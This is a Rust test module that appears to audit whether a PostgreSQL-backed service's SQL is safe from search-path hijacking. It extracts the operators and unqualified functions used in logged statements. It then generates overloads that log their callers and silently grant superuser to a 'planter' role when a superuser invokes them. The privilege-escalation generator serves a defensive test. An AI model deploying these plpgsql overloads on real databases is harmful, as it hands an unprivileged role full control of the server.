//! What a role with `CREATE` on a schema can plant to run its code in a gdid connection on
//! PostgreSQL: for every operator and every function a set of statement texts uses without a
//! schema, an overload of its own for each combination of the argument types those statements
//! can present. Each one logs who called it and, called by a superuser, makes its planter one.
//!
//! The operators and functions are read off the statements themselves ([`Uses::of`]), as a
//! server's statement log shows them ([`logged_statements`]), so that a statement added to gdid
//! later is covered by the same test.

use std::collections::BTreeSet;

/// The argument types a gdid statement can present to an operator or a function: its columns'
/// (`SMALLINT`, `INTEGER`, `BIGINT`, `VARCHAR`), its parameters' and literals' as the driver
/// binds them (`text`, `bigint`, `boolean`, arrays of text), and the catalogs' (`name`, `oid`,
/// `"char"`).
pub const ARGUMENT_TYPES: [&str; 11] = [
    "smallint",
    "integer",
    "bigint",
    "numeric",
    "character varying",
    "text",
    "name",
    "boolean",
    "\"char\"",
    "oid",
    "text[]",
];

/// Words followed by `(` that are not calls of a function found on the search path: SQL's own
/// syntax (the grammar turns `EXTRACT(…)` and its kind into `pg_catalog` calls itself), and types.
const NOT_FUNCTIONS: [&str; 64] = [
    "ALL",
    "AND",
    "ANY",
    "ARRAY",
    "AS",
    "BIGINT",
    "BY",
    "CASE",
    "CAST",
    "CHAR",
    "COALESCE",
    "CONFLICT",
    "DECIMAL",
    "DELETE",
    "DO",
    "ELSE",
    "EXCEPT",
    "EXISTS",
    "EXTRACT",
    "FILTER",
    "FROM",
    "GREATEST",
    "GROUP",
    "HAVING",
    "IN",
    "INDEX",
    "INSERT",
    "INTERSECT",
    "INTERVAL",
    "INTO",
    "JOIN",
    "KEY",
    "LATERAL",
    "LEAST",
    "LIMIT",
    "NOT",
    "NULLIF",
    "NUMERIC",
    "OFFSET",
    "ON",
    "OPERATOR",
    "OR",
    "ORDER",
    "OVER",
    "OVERLAY",
    "POSITION",
    "PRIMARY",
    "RETURNING",
    "ROW",
    "SELECT",
    "SET",
    "SMALLINT",
    "SUBSTRING",
    "TABLE",
    "THEN",
    "TRIM",
    "UNION",
    "UPDATE",
    "USING",
    "VALUES",
    "VARCHAR",
    "WHEN",
    "WHERE",
    "WITH",
];

/// The operators and the functions called without a schema in some statement texts.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct Uses {
    /// Each binary operator, as `pg_operator.oprname` spells it (`LIKE` is `~~`, `IN` is `=`).
    pub operators: BTreeSet<String>,
    /// Each function called without a schema, lower case, with how many arguments it is given.
    pub functions: BTreeSet<(String, usize)>,
}

impl Uses {
    /// What `texts` use. Literals and quoted identifiers are skipped; a name after a `.` is
    /// qualified, and so not looked up on the search path.
    pub fn of<'a>(texts: impl IntoIterator<Item = &'a str>) -> Uses {
        let mut uses = Uses::default();
        for text in texts {
            uses.add(text);
        }
        uses
    }

    fn add(&mut self, text: &str) {
        let bytes = text.as_bytes();
        let mut previous_word = String::new();
        let mut after_dot = false;
        let mut i = 0;
        while i < bytes.len() {
            let c = bytes[i] as char;
            if c == '\'' || c == '"' {
                i = closing_quote(bytes, i);
                after_dot = false;
                continue;
            }
            if c.is_ascii_alphabetic() || c == '_' {
                let end = (i..bytes.len())
                    .find(|&j| !(bytes[j].is_ascii_alphanumeric() || bytes[j] == b'_'))
                    .unwrap_or(bytes.len());
                let word = text[i..end].to_ascii_uppercase();
                let next = text[end..].trim_start();
                if next.starts_with('(')
                    && !after_dot
                    && !NOT_FUNCTIONS.contains(&word.as_str())
                    && !word.starts_with("GDID_")
                {
                    let arguments = arguments(&next[1..]);
                    self.functions
                        .insert((word.to_ascii_lowercase(), arguments));
                }
                match word.as_str() {
                    "LIKE" if previous_word == "NOT" => self.operator("!~~"),
                    "LIKE" => self.operator("~~"),
                    "IN" | "DISTINCT" => self.operator("="),
                    "BETWEEN" => {
                        self.operator(">=");
                        self.operator("<=");
                    }
                    _ => {}
                }
                previous_word = word;
                after_dot = false;
                i = end;
                continue;
            }
            if is_operator_char(c) {
                let end = (i..bytes.len())
                    .find(|&j| !is_operator_char(bytes[j] as char))
                    .unwrap_or(bytes.len());
                self.operator(&text[i..end]);
                i = end;
                after_dot = false;
                continue;
            }
            if !c.is_whitespace() {
                after_dot = c == '.';
            }
            i += 1;
        }
    }

    fn operator(&mut self, name: &str) {
        self.operators.insert(name.to_owned());
    }

    /// The statements that plant, in `schema`, an overload of every operator and function used
    /// for every combination of [`ARGUMENT_TYPES`]: each inserts `(current_user, what)` into
    /// `schema.planted_calls` and, when `current_user` is a superuser, runs `ALTER ROLE planter
    /// SUPERUSER`. `schema.planted_calls` must exist, writable by every role.
    pub fn plant(&self, schema: &str, planter: &str) -> Vec<String> {
        let mut statements = Vec::new();
        let mut n = 0;
        for operator in &self.operators {
            for left in ARGUMENT_TYPES {
                for right in ARGUMENT_TYPES {
                    n += 1;
                    let function = format!("{schema}.planted_{n}");
                    let returns = operator_result(operator, left);
                    statements.push(planted_function(
                        &function,
                        &[left, right],
                        returns,
                        &format!("operator {operator}({left}, {right})"),
                        schema,
                        planter,
                    ));
                    statements.push(format!(
                        "CREATE OPERATOR {schema}.{operator} (LEFTARG = {left}, \
                         RIGHTARG = {right}, FUNCTION = {function})"
                    ));
                }
            }
        }
        for (name, arguments) in &self.functions {
            for types in combinations(*arguments) {
                let returns = types.first().copied().unwrap_or("bigint");
                statements.push(planted_function(
                    &format!("{schema}.{name}"),
                    &types,
                    returns,
                    &format!("function {name}({})", types.join(", ")),
                    schema,
                    planter,
                ));
            }
        }
        statements
    }
}

/// Where the quoted text starting at `start` ends (past its closing quote; a doubled quote is
/// one quote inside it).
fn closing_quote(bytes: &[u8], start: usize) -> usize {
    let quote = bytes[start];
    let mut i = start + 1;
    while i < bytes.len() {
        if bytes[i] == quote {
            if bytes.get(i + 1) == Some(&quote) {
                i += 2;
                continue;
            }
            return i + 1;
        }
        i += 1;
    }
    bytes.len()
}

/// How many arguments the call whose text follows its `(` has: 0 for `()` and `(*)`.
fn arguments(inside: &str) -> usize {
    let mut depth = 0;
    let mut commas = 0;
    let mut empty = true;
    let bytes = inside.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        match bytes[i] {
            b'\'' | b'"' => {
                i = closing_quote(bytes, i);
                empty = false;
                continue;
            }
            b'(' => depth += 1,
            b')' if depth == 0 => break,
            b')' => depth -= 1,
            b',' if depth == 0 => commas += 1,
            b'*' if depth == 0 => {}
            c if !(c as char).is_whitespace() => empty = false,
            _ => {}
        }
        i += 1;
    }
    if empty { 0 } else { commas + 1 }
}

fn is_operator_char(c: char) -> bool {
    "+-*/<>=~!@#%^&|".contains(c)
}

/// The result type a planted `operator` gives, so that the statement still plans when it is
/// chosen: a comparison's is `boolean`, arithmetic's its left operand's, a concatenation's
/// `text`.
fn operator_result<'a>(operator: &str, left: &'a str) -> &'a str {
    match operator {
        "+" | "-" | "*" | "/" | "%" => left,
        "||" => "text",
        _ => "boolean",
    }
}

/// Every list of `n` [`ARGUMENT_TYPES`] (at most 2 arguments: a longer call gets lists of 2
/// repeated types).
fn combinations(n: usize) -> Vec<Vec<&'static str>> {
    match n {
        0 => vec![vec![]],
        1 => ARGUMENT_TYPES.iter().map(|t| vec![*t]).collect(),
        2 => ARGUMENT_TYPES
            .iter()
            .flat_map(|l| ARGUMENT_TYPES.iter().map(move |r| vec![*l, *r]))
            .collect(),
        n => ARGUMENT_TYPES.iter().map(|t| vec![*t; n]).collect(),
    }
}

fn planted_function(
    name: &str,
    arguments: &[&str],
    returns: &str,
    what: &str,
    schema: &str,
    planter: &str,
) -> String {
    let what = what.replace('\'', "''");
    format!(
        "CREATE FUNCTION {name}({}) RETURNS {returns} LANGUAGE plpgsql AS $planted$ \
         BEGIN \
           INSERT INTO {schema}.planted_calls (who, what) \
             VALUES (pg_catalog.current_user(), '{what}'); \
           IF (SELECT r.rolsuper FROM pg_catalog.pg_roles r \
               WHERE r.rolname OPERATOR(pg_catalog.=) pg_catalog.current_user()) THEN \
             EXECUTE 'ALTER ROLE {planter} SUPERUSER'; \
           END IF; \
           RETURN NULL; \
         END $planted$",
        arguments.join(", ")
    )
}

/// The statement texts a PostgreSQL server logged (`log_statement = 'all'`) in `log`: each
/// `statement:` and each `execute <name>:` (a prepared statement), a text that runs on over
/// several lines joined.
pub fn logged_statements(log: &str) -> Vec<String> {
    let mut statements: Vec<String> = Vec::new();
    let mut continuing = false;
    for line in log.lines() {
        if let Some(text) = statement_of(line) {
            statements.push(text.to_owned());
            continuing = true;
        } else if continuing && line.starts_with('\t') {
            if let Some(last) = statements.last_mut() {
                last.push(' ');
                last.push_str(line.trim());
            }
        } else {
            continuing = false;
        }
    }
    statements
}

fn statement_of(line: &str) -> Option<&str> {
    let (_, logged) = line.split_once("LOG:  ")?;
    if let Some(text) = logged.strip_prefix("statement: ") {
        return Some(text);
    }
    let prepared = logged.strip_prefix("execute ")?;
    prepared.split_once(": ").map(|(_, text)| text)
}

/// `text` with each number literal (digits not part of a name or a `$n` parameter) as `N`: two
/// runs' texts compared, a few of which carry a value (the era a record moves to).
pub fn numbers_blanked(text: &str) -> String {
    let mut blanked = String::with_capacity(text.len());
    let (mut in_number, mut previous) = (false, ' ');
    for c in text.chars() {
        let after_name = previous.is_ascii_alphanumeric() || previous == '_' || previous == '$';
        if c.is_ascii_digit() && (in_number || !after_name) {
            if !in_number {
                blanked.push('N');
            }
            in_number = true;
        } else {
            in_number = false;
            blanked.push(c);
        }
        previous = c;
    }
    blanked
}

/// The texts of `seen` that `again` does not hold, their number literals blanked
/// ([`numbers_blanked`]): the statements of a first run that a second did not run again.
pub fn not_run_again<'a>(seen: &'a [String], again: &[String]) -> Vec<&'a String> {
    let again: std::collections::HashSet<String> =
        again.iter().map(|text| numbers_blanked(text)).collect();
    seen.iter()
        .filter(|text| !again.contains(&numbers_blanked(text)))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn operators_and_unqualified_calls_are_found_outside_literals() {
        let uses = Uses::of([
            "SELECT MAX(window_end), COUNT(*) FROM \"s\".gdid_windows \
             WHERE sequence_name = $1 AND era <> 2 AND x NOT LIKE 'a=b' AND y IN (1, 2)",
            "UPDATE \"s\".gdid_counters SET next_counter = next_counter + $1 \
             WHERE pg_catalog.now() IS NOT NULL AND coalesce(a, 1) >= 0",
            "INSERT INTO \"s\".gdid_authority (id, authority) VALUES (1, $1)",
            "SELECT 1 WHERE n.x OPERATOR(pg_catalog.!~~) 'a' AND EXTRACT(epoch FROM b) > 0",
        ]);
        let operators: Vec<&str> = uses.operators.iter().map(String::as_str).collect();
        assert_eq!(operators, ["!~~", "*", "+", "<>", "=", ">", ">="]);
        let functions: Vec<(&str, usize)> = uses
            .functions
            .iter()
            .map(|(name, n)| (name.as_str(), *n))
            .collect();
        assert_eq!(functions, [("count", 0), ("max", 1)]);
    }

    #[test]
    fn a_plant_covers_every_pair_of_types() {
        let uses = Uses::of(["SELECT 1 WHERE a = b AND f(c) IS NULL"]);
        let statements = uses.plant("public", "mallory");
        let pairs = ARGUMENT_TYPES.len() * ARGUMENT_TYPES.len();
        let operators = statements
            .iter()
            .filter(|s| s.starts_with("CREATE OPERATOR public.= ("))
            .count();
        assert_eq!(operators, pairs);
        assert!(statements.iter().any(|s| {
            s.contains("CREATE OPERATOR public.= (LEFTARG = character varying, RIGHTARG = text")
        }));
        let functions = statements
            .iter()
            .filter(|s| s.starts_with("CREATE FUNCTION public.f("))
            .count();
        assert_eq!(functions, ARGUMENT_TYPES.len());
    }

    #[test]
    fn number_literals_are_blanked_and_names_and_parameters_kept() {
        assert_eq!(
            numbers_blanked("SET era = 60964073, x2 = $1 WHERE n IN (1, 22)"),
            "SET era = N, x2 = $1 WHERE n IN (N, N)"
        );
    }

    #[test]
    fn logged_statements_are_read_with_their_continuations() {
        let log = "2026-12-07 08:00:00.000 UTC [1] LOG:  statement: SELECT 1\n\
                   2026-12-07 08:00:00.001 UTC [1] LOG:  execute sqlx_s_1: UPDATE t\n\
                   \tSET a = 1\n\
                   2026-12-07 08:00:00.002 UTC [1] DETAIL:  parameters: $1 = '2'\n\
                   2026-12-07 08:00:00.003 UTC [1] LOG:  execute <unnamed>: SELECT 2\n";
        assert_eq!(
            logged_statements(log),
            ["SELECT 1", "UPDATE t SET a = 1", "SELECT 2"]
        );
    }
}
